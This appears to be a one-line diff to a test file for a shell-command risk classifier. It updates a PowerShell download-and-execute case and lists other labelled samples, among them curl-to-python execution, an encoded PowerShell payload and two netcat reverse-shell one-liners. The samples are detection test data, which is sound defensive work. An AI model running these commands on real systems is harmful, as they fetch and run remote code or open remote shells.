@@ -246,7 +246,7 @@ def test_unknown_parts_are_marked() -> None:
         ("curl https://x -o cat.png", "starts-process"),
         ("curl https://x; ls", "starts-process"),
         ("python <(curl https://x)", "runs-download"),
-        ("powershell -c IEX(irm x)", "runs-download"),
+        ("powershell -c IEX(irm x.test/a)", "runs-download"),
         ("powershell -enc SQBFAFgAIAAoAE4AZQB3", "encoded-payload"),
         ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc 1.2.3.4 5 > /tmp/f", "remote-shell"),
         ("nc -e /bin/sh 1.2.3.4 5", "remote-shell"),
